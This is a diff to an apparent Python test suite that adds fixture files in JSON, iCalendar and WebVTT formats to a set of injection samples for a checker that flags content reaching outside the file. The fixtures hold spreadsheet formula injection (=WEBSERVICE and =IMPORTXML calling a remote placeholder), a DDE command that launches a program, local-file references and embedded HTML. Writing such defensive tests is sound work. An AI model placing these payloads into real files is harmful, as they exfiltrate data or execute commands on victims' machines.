@@ -108,6 +108,12 @@ FILES: dict[str, bytes] = {
     "a.csv": (
         f"Aims,b\n\"=WEBSERVICE(\"\"{REMOTE}\"\")\",=cmd|' /C calc'!A0\n@SUM(1),+1\n"
     ).encode(),
+    "a.json": json.dumps({"Aims": f"=WEBSERVICE({REMOTE})", "$ref": LOCAL, "b": HTML}).encode(),
+    "a.ics": (
+        f"BEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:Aims\nDTSTART;TZID={LOCAL}:20310502T090000\n"
+        f"URL:{REMOTE}\nATTACH:{LOCAL}\nDESCRIPTION:{HTML}\nEND:VEVENT\nEND:VCALENDAR\n"
+    ).encode(),
+    "a.vtt": f"WEBVTT\n\n00:01.000 --> 00:02.000\nAims <c.{LOCAL}>{REMOTE}\n".encode(),
     "a.tsv": f"Aims\tb\n=IMPORTXML(\"{REMOTE}\")\t={LOCAL}\n".encode(),
     "a.eml": (
         "From: a@example.org\nSubject: Aims\nMIME-Version: 1.0\n"
@@ -189,6 +195,7 @@ def test_every_format_has_one_that_reaches() -> None:
     ours = {Path(name).suffix for name in FILES}
     alike = {".docm", ".dotm", ".dotx", ".markdown", ".text", ".htm", ".xhtml", ".log"}
     alike |= {".xlsm", ".xltx", ".xltm", ".pptm", ".ppsx", ".ppsm", ".potx", ".potm"}
+    alike |= {".jsonl", ".srt"}
     assert ours | alike >= SUFFIXES
 
 
